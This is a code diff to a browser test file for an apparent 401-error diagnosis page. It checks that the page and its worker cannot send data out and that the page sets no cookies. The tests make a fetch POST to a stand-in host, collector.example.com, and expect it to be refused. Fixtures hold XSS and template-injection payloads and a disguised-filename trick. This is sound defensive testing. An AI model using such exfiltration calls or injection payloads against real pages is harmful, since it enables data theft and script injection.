@@ -8,7 +8,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { diagnose } from '../../src/index.ts'
 import { hostile } from '../adapters/pastes.ts'
 import { drop, forget, paste } from './acts.ts'
-import { noBrowser, openHouse } from './browser.ts'
+import { noBrowser, openHouse, serveBare } from './browser.ts'
 import type { House, Visit } from './browser.ts'
 
 const expired = readFileSync(join(import.meta.dirname, '../cases/token-expired/curl-trace-with-date.txt'), 'utf8')
@@ -21,6 +21,23 @@ WWW-Authenticate: Bearer realm="<img src=x onerror=alert(1)>", error="invalid_to
 {{constructor.constructor('alert(7)')()}} \u202egnp.exe\u0007 \`<b>\``
 
 const fragmentOf = (value: unknown): string => `#d=${deflateRawSync(JSON.stringify(value)).toString('base64url')}`
+
+const send = async (): Promise<string> => {
+  try {
+    await fetch('https://collector.example.com/', { method: 'POST', body: 'x', mode: 'no-cors' })
+    return 'sent'
+  } catch (error) {
+    return error instanceof TypeError ? 'refused' : String(error)
+  }
+}
+
+/** What becomes of a request that script of the page, or of its worker, would make; and which of them were made. */
+const sends = async ({ page, requests }: Visit): Promise<{ said: readonly unknown[]; asked: readonly string[] }> => {
+  const [worker] = page.workers()
+  const said = [await page.evaluate(send), await worker?.evaluate(send)]
+  await page.context().close()
+  return { said, asked: requests.filter((url) => url.includes('collector')) }
+}
 
 describe.skipIf(noBrowser)('the page keeps to itself', () => {
   let house: House
@@ -62,21 +79,17 @@ describe.skipIf(noBrowser)('the page keeps to itself', () => {
   })
 
   test('the browser refuses to send anything for it, in the page and in its worker', async () => {
-    const send = async (): Promise<string> => {
-      try {
-        await fetch('https://collector.example.com/', { method: 'POST', body: 'x', mode: 'no-cors' })
-        return 'sent'
-      } catch (error) {
-        return error instanceof TypeError ? 'refused' : String(error)
-      }
-    }
-    const other = await house.visit()
-    const [worker] = other.page.workers()
-    const before = other.requests.length
-    expect([await other.page.evaluate(send), await worker?.evaluate(send)]).toEqual(['refused', 'refused'])
-    expect(other.requests.slice(before).filter((url) => url.includes('collector'))).toEqual([])
-    await other.page.context().close()
+    expect(await sends(await house.visit())).toEqual({ said: ['refused', 'refused'], asked: [] })
   })
+
+  test('as static files in a folder of a server that knows no policy, it answers, and is refused the same', async () => {
+    const bare = await openHouse(await serveBare('/tools/401/'))
+    const other = await bare.visit({}, 'tools/401/')
+    await paste(other.page, expired)
+    expect(await other.page.locator('.answer h2').textContent()).toContain('The access token expired')
+    expect(await sends(other)).toEqual({ said: ['refused', 'refused'], asked: [] })
+    await bare.close()
+  }, 60_000)
 
   test('it sets no cookie and stores nothing', async () => {
     await paste(page, expired)
